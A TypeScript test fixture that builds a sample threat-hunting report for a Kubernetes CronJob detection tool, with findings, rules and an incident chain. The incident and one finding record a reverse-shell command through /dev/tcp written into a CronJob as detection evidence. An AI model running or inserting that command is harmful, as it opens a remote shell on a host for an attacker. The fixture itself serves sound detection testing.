/**
 * A realistic report for formatter tests: pack, Sigma, correlation and posture findings,
 * line and index origins, related records, an incident with a full chain.
 */
import type { Finding } from '../src/finding.js';
import type { Incident } from '../src/incident.js';
import type { Report, RuleInfo } from '../src/report/report.js';
import { countByLevel, countByRule } from '../src/report/summary.js';

export const SAMPLE_RULES: readonly RuleInfo[] = [
  {
    id: 'CW-003',
    title: 'Suspicious command in a CronJob or Job template',
    source: 'pack',
    level: 'high',
    description: 'A job template runs a reverse shell, a download-and-run or a miner.',
    tags: ['attack.persistence', 'attack.t1053.007'],
    help: 'Delete the CronJob, then find who created it (see the incident).',
    falsepositives: ['Debug jobs that fetch scripts from an internal mirror'],
  },
  {
    id: 'CW-001',
    title: 'CronJob created by a principal that is not a known controller',
    source: 'pack',
    level: 'low',
    tags: ['attack.t1053.007'],
  },
  {
    id: '1c71e254-6655-42c1-b2d6-5e4718d7fc0a',
    title: 'Azure Kubernetes CronJob',
    source: 'sigma',
    level: 'medium',
    tags: ['attack.t1053.007'],
  },
  { id: 'CW-010', title: 'Reconnaissance of jobs', source: 'pack', level: 'informational' },
];

export const SAMPLE_INCIDENT: Incident = {
  id: 'INC-5f2a9c',
  title: 'CronJob payments/backup runs a reverse shell',
  level: 'high',
  firstSeen: '2024-05-01T10:00:00.000Z',
  lastSeen: '2024-05-01T10:01:05.000Z',
  root: { apiVersion: 'batch/v1', kind: 'CronJob', namespace: 'payments', name: 'backup' },
  chain: [
    {
      kind: 'CronJob',
      name: 'backup',
      namespace: 'payments',
      uid: 'c0ffee00-1111-2222-3333-444455556666',
      time: '2024-05-01T10:00:00.000Z',
      origin: { file: 'logs/audit.log', line: 12 },
      detail: 'schedule */1 * * * *',
    },
    {
      kind: 'Job',
      name: 'backup-28573200',
      namespace: 'payments',
      time: '2024-05-01T10:01:00.000Z',
    },
    { kind: 'Pod', name: 'backup-28573200-x7k2p', namespace: 'payments' },
    { kind: 'container', name: 'backup', detail: 'image busybox:latest' },
    {
      kind: 'process',
      name: '/bin/sh -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      origin: { file: 'logs/falco.json', index: 3 },
    },
  ],
  otherChains: [
    [
      { kind: 'CronJob', name: 'backup', namespace: 'payments' },
      { kind: 'Job', name: 'backup-28573201', namespace: 'payments' },
      { kind: 'Pod', name: 'backup-28573201-q2w9z', namespace: 'payments' },
    ],
  ],
  createdBy: {
    user: 'alice@example.com',
    groups: ['system:authenticated'],
    verb: 'create',
    time: '2024-05-01T10:00:00.000Z',
    sourceIPs: ['203.0.113.7'],
    userAgent: 'kubectl/v1.29.0',
    origin: { file: 'logs/audit.log', line: 12 },
  },
  rules: ['CW-003', 'CW-001'],
  tags: ['attack.t1053.007'],
};

export const SAMPLE_FINDINGS: readonly Finding[] = [
  {
    rule: {
      id: 'CW-003',
      title: 'Suspicious command in a CronJob or Job template',
      source: 'pack',
    },
    level: 'high',
    tags: ['attack.persistence', 'attack.t1053.007'],
    time: '2024-05-01T10:00:00.000Z',
    message: 'CronJob payments/backup runs a reverse shell (bash -i >& /dev/tcp/…)',
    origin: { file: 'logs/audit.log', line: 12 },
    matched: [
      {
        field: 'requestObject.spec.jobTemplate.spec.template.spec.containers.command',
        value: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
      },
    ],
    object: { apiVersion: 'batch/v1', kind: 'CronJob', namespace: 'payments', name: 'backup' },
    evidence: ['user alice@example.com (kubectl/v1.29.0) from 203.0.113.7'],
    remediation: 'kubectl -n payments delete cronjob backup',
    incident: 'INC-5f2a9c',
  },
  {
    rule: {
      id: 'CW-001',
      title: 'CronJob created by a principal that is not a known controller',
      source: 'pack',
    },
    level: 'low',
    tags: ['attack.t1053.007'],
    time: '2024-05-01T10:00:00.000Z',
    message: 'alice@example.com created CronJob payments/backup',
    origin: { file: 'logs/audit.log', line: 12 },
    matched: [
      { field: 'verb', value: 'create' },
      { field: 'objectRef.resource', value: 'cronjobs' },
    ],
    object: { kind: 'CronJob', namespace: 'payments', name: 'backup' },
    incident: 'INC-5f2a9c',
  },
  {
    rule: {
      id: '1c71e254-6655-42c1-b2d6-5e4718d7fc0a',
      title: 'Azure Kubernetes CronJob',
      source: 'sigma',
    },
    level: 'medium',
    tags: ['attack.t1053.007'],
    time: '2024-05-01T09:59:58.000Z',
    message: 'Azure Activity Log: CRONJOBS/WRITE by alice@example.com',
    origin: { file: '/var/log/azure activity/records.json', index: 4 },
    matched: [
      {
        field: 'operationName',
        value: 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE',
      },
    ],
  },
  {
    rule: { id: 'CW-017', title: 'RBAC grant followed by a CronJob create', source: 'correlation' },
    level: 'critical',
    tags: ['attack.t1053.007', 'attack.privilege-escalation'],
    time: '2024-05-01T10:00:00.000Z',
    message: 'mallory was granted create on cronjobs, then created one 4 minutes later',
    origin: { file: 'logs/audit.log', line: 12 },
    related: [
      { file: 'logs/audit.log', line: 3 },
      { file: 'logs/eks.json', index: 0 },
    ],
    matched: [{ field: 'user.username', value: 'mallory' }],
  },
  {
    rule: { id: 'PSS.privileged', title: 'Privileged containers', source: 'posture' },
    level: 'high',
    tags: [],
    time: '2024-05-01T11:00:00.000Z',
    message: 'container "miner" is privileged',
    origin: { file: 'manifests/cron.yaml', line: 1 },
    matched: [
      {
        field: 'spec.jobTemplate.spec.template.spec.containers[0].securityContext.privileged',
        value: true,
      },
    ],
    object: { kind: 'CronJob', namespace: 'default', name: 'miner' },
  },
];

/** A report over `findings` (the sample by default) with a consistent summary. */
export function sampleReport(
  findings: readonly Finding[] = SAMPLE_FINDINGS,
  incidents: readonly Incident[] = [SAMPLE_INCIDENT],
): Report {
  return {
    tool: { name: 'cronwarden', version: '0.1.0' },
    findings,
    incidents,
    rules: SAMPLE_RULES,
    summary: {
      command: 'hunt',
      startedAt: '2024-05-01T12:00:00.000Z',
      durationMs: 1234,
      inputs: [
        { path: 'logs/audit.log', format: 'k8s-audit', bytes: 52_000, records: 40, malformed: 1 },
        { path: 'logs/eks.json', format: 'eks-cloudwatch', bytes: 8_000, records: 2, malformed: 0 },
      ],
      bytes: 60_000,
      records: 42,
      recordsByFormat: { 'eks-cloudwatch': 2, 'k8s-audit': 40 },
      malformed: 1,
      issues: [
        {
          code: 'CW_IO',
          severity: 'error',
          message: 'unexpected end of JSON input',
          location: { file: 'logs/audit.log', line: 7, column: 1 },
        },
      ],
      blindSpots: [{ reason: 'audit.k8s.io/truncated', count: 2 }],
      rulesLoaded: SAMPLE_RULES.length,
      findings: findings.length,
      findingsByLevel: countByLevel(findings),
      findingsByRule: countByRule(findings),
      incidents: incidents.length,
      stoppedEarly: false,
    },
  };
}
